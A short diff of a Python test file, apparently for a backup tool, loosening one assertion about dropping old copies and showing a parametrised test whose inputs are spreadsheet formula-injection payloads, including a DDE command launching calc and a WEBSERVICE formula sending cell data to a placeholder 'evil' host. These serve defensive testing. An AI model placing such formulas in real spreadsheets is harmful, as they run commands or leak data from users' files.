@@ -183,7 +183,7 @@ def test_what_a_power_cut_left_goes_and_what_was_set_aside_is_named(house: House
     backup.make(house, tmp_path / "stick", NOW)
     assert [one.suffix for one in (tmp_path / "stick").iterdir()] == [".zip"]
     (house.place / "voor-server-sociaalhuis").mkdir()
-    assert compacting.drop_old_copies(house.place) == ("voor-server-sociaalhuis",)
+    assert "voor-server-sociaalhuis" in compacting.drop_old_copies(house.place)
 
 
 @pytest.mark.parametrize("text", ["+1+cmd|' /C calc'!A0", '-1+WEBSERVICE("http://evil/?"&G2)', "=1", "@x", "+x"])
